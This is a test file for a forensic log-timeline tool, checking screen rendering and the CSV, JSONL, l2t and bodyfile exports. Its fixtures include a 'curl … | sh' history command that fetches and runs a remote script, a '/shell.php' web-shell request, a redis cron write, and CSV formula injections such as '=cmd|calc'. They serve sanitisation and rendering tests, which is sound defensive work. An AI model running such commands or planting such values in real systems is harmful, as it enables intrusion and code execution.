import { describe, expect, test } from 'bun:test';
import { eventFixture, logFixture } from '../../model/facts/event.fixture.ts';
import type { EventDetail, LogEvent } from '../../model/facts/event.ts';
import { eventWhats } from '../../model/facts/event-whats.ts';
import { printableText } from '../../model/text.ts';
import type { StoredEvent } from '../../store/event-store.ts';
import { cleanResult } from '../result.fixture.ts';
import { provenResult } from '../story.fixture.ts';
import { displayWidth } from '../width.ts';
import { csvCell, exportFormats, exportLines } from './export.ts';
import { say } from './say.ts';
import { chainPlaces, renderEvents, renderHead } from './screen.ts';
import { isoOf, timelineTexts } from './texts.ts';

const text = printableText;
const start = Date.parse('2024-01-02T03:04:05.678Z') * 1000;
const { what: _w, ...base } = eventFixture({ us: start, what: 'message' });

/** One of each kind. */
const details: readonly EventDetail[] = [
  { what: 'account', action: 'member-added', account: text('eve'), group: text('sudo'), by: text('root') },
  {
    what: 'command',
    origin: 'history',
    account: text('root'),
    command: text('curl -s http://192.0.2.9/x | sh'),
  },
  {
    what: 'container',
    runtime: 'docker',
    action: 'created',
    container: text('c1'),
    image: text('img'),
    account: text(''),
    from: text(''),
    detail: text(''),
  },
  { what: 'file', which: 'born', path: text('/tmp/a|b') },
  { what: 'host', action: 'booted', detail: text('') },
  { what: 'job', scheduler: 'cron', account: text('root'), command: text('/opt/密码/任务.sh') },
  { what: 'kernel', action: 'tainted', subject: text('rootkit') },
  { what: 'load', seconds: 600, busy: 98.5 },
  {
    what: 'login',
    outcome: 'accepted',
    service: 'sshd',
    account: text('root'),
    known: true,
    from: text('192.0.2.7'),
    method: text('password'),
  },
  { what: 'message', program: text('x') },
  { what: 'package', manager: 'dpkg', action: 'installed', package: text('gcc'), version: text('12') },
  {
    what: 'privilege',
    program: 'sudo',
    outcome: 'failed',
    account: text('eve'),
    as: text('root'),
    command: text('/bin/sh'),
  },
  {
    what: 'request',
    server: 'nginx',
    client: text('192.0.2.7'),
    method: text('POST'),
    target: text('/shell.php'),
    status: 200,
    size: 1234567,
    agent: text('curl'),
    referrer: text(''),
    account: text(''),
  },
  {
    what: 'service',
    service: 'redis',
    action: 'saved',
    account: text(''),
    from: text('192.0.2.7'),
    detail: text('/var/spool/cron'),
  },
  { what: 'session', phase: 'opened', service: 'sshd', account: text('root'), from: text('') },
  { what: 'table', action: 'replaced', by: text('root'), table: text('www-data') },
];

// Each detail has its own fields, and the base those of all.
const eventOf = (detail: EventDetail): LogEvent => ({ ...base, ...detail }) as LogEvent;
const stored = (event: LogEvent): StoredEvent => ({
  event,
  host: text('web-1'),
  log: 'linux.log.auth',
  format: 'syslog',
});
const all = details.map((detail) => stored(eventOf(detail)));
const login = (us: number, outcome: 'accepted' | 'failed', account = 'root'): StoredEvent =>
  stored({ ...eventFixture({ us, what: 'login' }), account: text(account), outcome } as LogEvent);

describe('what an event says', () => {
  test('is a sentence in both languages for every kind', () => {
    expect(details.map(({ what }): string => what).sort()).toEqual([...eventWhats].sort());
    for (const language of ['en', 'zh-CN'] as const) {
      for (const { event } of all) {
        const said = say(event, timelineTexts(language));
        expect(said).not.toBe('');
        expect(said).not.toContain('undefined');
      }
    }
  });

  test('of a message leaves out the time, which has its own column', () => {
    const event = eventOf({ what: 'message', program: text('kernel') });
    const line = { ...event, text: text('Jan  2 03:04:05 web-1 kernel: martian source') };
    expect(say(line, timelineTexts('en'))).toBe('kernel: martian source');
  });
});

describe('the timeline on a screen', () => {
  const view = {
    width: 80,
    color: false,
    language: 'en',
    withHost: false,
    marked: new Set<string>(),
  } as const;

  test('fits 80 columns in both languages, hostile text and wide characters too', () => {
    const hostile = stored({
      ...eventOf({ what: 'message', program: text('') }),
      text: 'x\x1b[2J密码'.repeat(50) as never,
    });
    for (const language of ['en', 'zh-CN'] as const) {
      const own = { ...view, language };
      const odd = {
        ...logFixture,
        status: 'truncated',
        reason: 'time is up',
        nulBytes: 4096,
        unreadable: 1,
        cutLines: 3,
        uncertain: 2,
      } as const;
      const gaps = [{ fromUs: start, toUs: start + 1e12, line: 7, booted: true }];
      const steps = Array.from({ length: 9 }, (_, line) => ({ line, fromUs: start, toUs: start - 1e9 }));
      const head = {
        name: '案件'.repeat(60),
        logs: [{ ...odd, gaps, steps }],
        counts: new Map([['login', 12345]] as const),
      };
      const rows = [...renderHead(head, own), ...renderEvents([...all, hostile], { ...own, withHost: true })];
      expect(rows.filter((row) => displayWidth(row) > 80)).toEqual([]);
      expect(rows.join('\n')).not.toContain('\x1b');
      expect(rows.length).toBeGreaterThan(all.length + 8);
    }
  });

  test('shows an uncertain time as one', () => {
    const [row = ''] = renderEvents(
      [stored({ ...eventOf({ what: 'host', action: 'booted', detail: text('') }), certain: false })],
      view,
    );
    expect(row).toBe('2024-01-02 03:04:05~ host   host started');
  });

  test('folds a guesser, whatever accounts he tries, and never who was let in', () => {
    const rows = [
      ...renderEvents(
        [
          ...Array.from({ length: 500 }, (_, index) => login(start + index * 1e6, 'failed', `u${index}`)),
          login(start + 501e6, 'accepted'),
          login(start + 502e6, 'accepted'),
        ],
        view,
      ),
    ];
    expect(rows).toHaveLength(3);
    expect(rows[0]).toContain('× 500 until 03:12:24');
  });

  test('has the way in above the logs, marks its lines and never folds them away', () => {
    const [way] = provenResult.entry ?? [];
    const [line] = way?.chain ?? [];
    if (way === undefined || line === undefined) throw new Error('the fixture has no way in');
    const at = (one: StoredEvent, number: number): StoredEvent => ({
      ...one,
      event: { ...one.event, source: { source: text('/var/log/auth.log'), line: number } } as LogEvent,
    });
    const result = {
      ...provenResult,
      entry: [{ ...way, chain: [{ ...line, source: '/var/log/auth.log', line: 3 }] }],
    };
    for (const [language, ...pieces] of [
      [
        'en',
        'Way in   confirmed: a flaw of a web application',
        'Told     first sign',
        '> a line that the way in',
      ],
      ['zh-CN', '入侵     确认：Web 应用漏洞利用', '告知     出现异常', '> 入侵入口所依据的日志'],
    ] as const) {
      const head = [
        ...renderHead({ name: 'x', logs: [logFixture], counts: new Map(), result }, { ...view, language }),
      ];
      for (const piece of pieces) expect(head.join('\n')).toContain(piece);
      expect(head.filter((row) => displayWidth(row) > 80)).toEqual([]);
    }
    const guesses = Array.from({ length: 9 }, (_, index) =>
      at(login(start + index * 1e6, 'failed'), index + 1),
    );
    const rows = [...renderEvents(guesses, { ...view, marked: chainPlaces(result) })];
    expect(rows).toHaveLength(3);
    expect(rows[1]).toStartWith('2024-01-02 03:04:07 > login');
    expect(rows.filter((row) => row.includes('>'))).toHaveLength(1);
    expect(chainPlaces(undefined).size).toBe(0);
    // Lines of other hosts are of ways in too.
    expect([...chainPlaces(provenResult)]).toContain('/var/log/auth.log\n911');
    const clean = renderHead({ name: 'x', logs: [logFixture], counts: new Map(), result: cleanResult }, view);
    expect([...clean].join('\n')).not.toContain('Way in');
  });

  test('says where nothing was found, and where no log was read', () => {
    expect([...renderEvents([], view)]).toEqual(['Nothing in this case fits what was asked for.']);
    const rows = [...renderHead({ name: 'x', logs: [], counts: new Map() }, view)];
    expect(rows).toContain('No log was read into this case.');
  });
});

describe('cells of CSV', () => {
  test.each([
    ['=HYPERLINK("http://192.0.2.9")', `"'=HYPERLINK(""http://192.0.2.9"")"`],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['  =1', "'  =1"],
    ['|calc', "'|calc"],
    ['a,b', '"a,b"'],
    ['-', '-'],
    ['plain', 'plain'],
    ['two\nlines', 'two%0Alines'],
    ['\x1b[2J', '%1B[2J'],
  ])('%j', (given, cell) => {
    expect(csvCell(given)).toBe(cell);
  });
});

/** Cells of a line as RFC 4180 reads them. */
function cells(line: string): readonly string[] {
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map((match) =>
    (match[1] ?? match[2] ?? '').replaceAll('""', '"'),
  );
}

describe('exports', () => {
  const hostile = stored({
    ...eventOf({
      what: 'login',
      outcome: 'failed',
      service: 'sshd',
      account: text('=cmd|calc,"x"\n'),
      known: true,
      from: text('192.0.2.7'),
      method: text(''),
    }),
    text: text('=1\n+2|3'),
  });
  const events = [...all, hostile];
  const lines = (format: (typeof exportFormats)[number]): readonly string[] => [
    ...exportLines(events, format, timelineTexts('en')),
  ];

  test('are one line an event, without a control character', () => {
    for (const format of exportFormats) {
      const own = lines(format);
      expect(own).toHaveLength(events.length + (format === 'csv' || format === 'l2t' ? 1 : 0));
      for (const line of own) expect(line).not.toMatch(/[\x00-\x1f\x7f]/);
    }
  });

  test('JSONL has what Timesketch requires', () => {
    for (const line of lines('jsonl')) {
      const one: Record<string, unknown> = JSON.parse(line);
      expect(one).toMatchObject({
        datetime: '2024-01-02T03:04:05.678000+00:00',
        timestamp: start,
        hostname: 'web-1',
      });
      expect(one['message']).not.toBe('');
      expect(one['timestamp_desc']).toBeString();
    }
  });

  test('CSV has the same columns in every line, and no cell that calculates', () => {
    const [head = '', ...rows] = lines('csv').map(cells);
    expect(head.slice(0, 4)).toEqual(['message', 'datetime', 'timestamp', 'timestamp_desc']);
    for (const row of rows) {
      expect(row).toHaveLength(head.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+@\t]/);
    }
  });

  test('l2t has its 17 columns', () => {
    const [head = [], ...rows] = lines('l2t').map(cells);
    expect(head).toHaveLength(17);
    for (const row of rows) expect(row).toHaveLength(17);
    expect(rows[0]?.slice(0, 4)).toEqual(['01/02/2024', '03:04:05', 'UTC', 'M...']);
    expect(rows[3]?.[3]).toBe('...B');
  });

  test('a body file has eleven fields, whatever a name holds', () => {
    const rows = lines('bodyfile').map((line) => line.split('|'));
    for (const row of rows) expect(row).toHaveLength(11);
    const seconds = String(Math.floor(start / 1e6));
    expect(rows[0]?.slice(7)).toEqual(['0', seconds, '0', '0']);
    expect(rows[3]?.slice(1, 2)).toEqual(['/tmp/a%7Cb']);
    expect(rows[3]?.slice(7)).toEqual(['0', '0', '0', seconds]);
  });

  test('times before 1970 and beyond all dates are written and do not throw', () => {
    expect(isoOf(-1)).toBe('1969-12-31T23:59:59.999999+00:00');
    expect(isoOf(1e30)).toBe('+275760-09-13T00:00:00.000000+00:00');
  });
});
